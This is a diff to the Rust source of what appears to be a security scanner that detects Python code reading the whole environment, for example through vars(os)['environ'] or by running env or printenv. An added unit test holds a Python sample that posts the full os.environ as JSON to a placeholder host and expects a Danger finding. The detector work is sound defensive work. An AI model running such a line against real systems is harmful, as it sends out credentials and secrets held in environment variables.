@@ -16,24 +16,24 @@ const BY_TEXT: &[&str] = &["vars", "getattr", "attrgetter", "__dict__", "__getat
 const MODULES: &[&str] = &["os", "posix", "nt"];
 
 impl Flow<'_> {
-    /// Whether what stands at `at` is the whole environment, by a way that only Python has.
-    pub(super) fn is_environment(&self, tokens: &[Placed], at: usize) -> bool {
+    /// Whether the whole environment stands in a statement, by a way that only Python has.
+    pub(super) fn takes_environment(&self, tokens: &[Placed]) -> bool {
         if self.language != Language::Python {
             return false;
         }
-        match tokens.get(at).map(|placed| &placed.token) {
-            Some(Token::Text(text)) => self.is_printed(text, tokens, at) || self.is_named_by_text(tokens, at),
-            Some(Token::Name(name)) if MEMBERS.contains(&name.as_str()) => self.is_member(tokens, at),
-            Some(Token::Name(name)) => self.constants.contains_key(name) && self.is_named_by_text(tokens, at),
+        // Asked of the statement once: tables of data are one statement of many thousand texts.
+        let by_text = names(tokens).any(|name| BY_TEXT.contains(&name));
+        let starts = names(tokens).any(|name| words::PROGRAMS.contains(&name));
+        tokens.iter().enumerate().any(|(at, placed)| match &placed.token {
+            Token::Text(text) => starts && is_printed(text, tokens, at) || by_text && self.is_named_by_text(tokens, at),
+            Token::Name(name) if MEMBERS.contains(&name.as_str()) => self.is_member(tokens, at),
+            Token::Name(name) => by_text && self.constants.contains_key(name) && self.is_named_by_text(tokens, at),
             _ => false,
-        }
+        })
     }
 
     /// `vars(os)["environ"]`, `getattr(os, "env" + "iron")`: a text says which member is meant.
     fn is_named_by_text(&self, tokens: &[Placed], at: usize) -> bool {
-        if !names(tokens).any(|name| BY_TEXT.contains(&name)) {
-            return false;
-        }
         let (value, after) = Fold { tokens, constants: &self.constants }.expression(at, 0);
         MEMBERS.contains(&value.joined("").as_str()) && !asks_for_one(tokens, after)
     }
@@ -72,20 +72,18 @@ impl Flow<'_> {
             all.next() == Some("from") && all.next() == Some("os") && all.any(|name| MEMBERS.contains(&name))
         })
     }
+}
 
-    /// `["env"]` as all that a program is started with.
-    fn is_printed(&self, text: &str, tokens: &[Placed], at: usize) -> bool {
-        let token = |at: usize| tokens.get(at).map(|placed| &placed.token);
-        let is_alone = match (at.checked_sub(1).and_then(token), token(at.saturating_add(1))) {
-            (Some(Token::Sign('[')), Some(Token::Sign(']'))) | (Some(Token::Sign('(')), Some(Token::Sign(')'))) => true,
-            // What is named comes after.
-            (Some(Token::Sign('(')), Some(Token::Sign(','))) => token(at.saturating_add(3)) == Some(&Token::Sign('=')),
-            _ => false,
-        };
-        is_alone
-            && matches!(text, "env" | "printenv" | "/usr/bin/env" | "export -p")
-            && names(tokens).any(|name| words::PROGRAMS.contains(&name))
-    }
+/// `["env"]` as all that a program is started with.
+fn is_printed(text: &str, tokens: &[Placed], at: usize) -> bool {
+    let token = |at: usize| tokens.get(at).map(|placed| &placed.token);
+    let is_alone = match (at.checked_sub(1).and_then(token), token(at.saturating_add(1))) {
+        (Some(Token::Sign('[')), Some(Token::Sign(']'))) | (Some(Token::Sign('(')), Some(Token::Sign(')'))) => true,
+        // What is named comes after.
+        (Some(Token::Sign('(')), Some(Token::Sign(','))) => token(at.saturating_add(3)) == Some(&Token::Sign('=')),
+        _ => false,
+    };
+    is_alone && matches!(text, "env" | "printenv" | "/usr/bin/env" | "export -p")
 }
 
 /// `"NAME" in environ`: whether it is there, and no more.
@@ -105,5 +103,25 @@ fn asks_for_one(tokens: &[Placed], at: usize) -> bool {
         Some(Token::Sign('[')) => true,
         Some(Token::Sign('.')) => names(rest).next().is_some_and(|name| matches!(name, "get" | "pop" | "setdefault")),
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::finding::Severity;
+
+    #[test]
+    fn the_whole_environment_is_taken_by_whoever_starts_it() {
+        let send = "import os, json, urllib.request as u\nu.urlopen('https://a.invalid', json.dumps(dict(os.environ)).encode())\n";
+        let one = "import os, urllib.request as u\nu.urlopen('https://a.invalid/' + os.environ.get('LANG', ''))\n";
+        let worst = |text: &str, context| {
+            let mut findings = crate::Findings::default();
+            let source = crate::text::Source::new("a.py", text);
+            let _calls = crate::interpreted::judge(&source, Language::Python, context, &mut findings);
+            findings.finish().into_iter().map(|finding| finding.severity).max()
+        };
+        assert_eq!(worst(send, crate::shell::Context::Named), Some(Severity::Danger));
+        assert!(worst(one, crate::shell::Context::Named).is_none_or(|severity| severity < Severity::Danger));
     }
 }
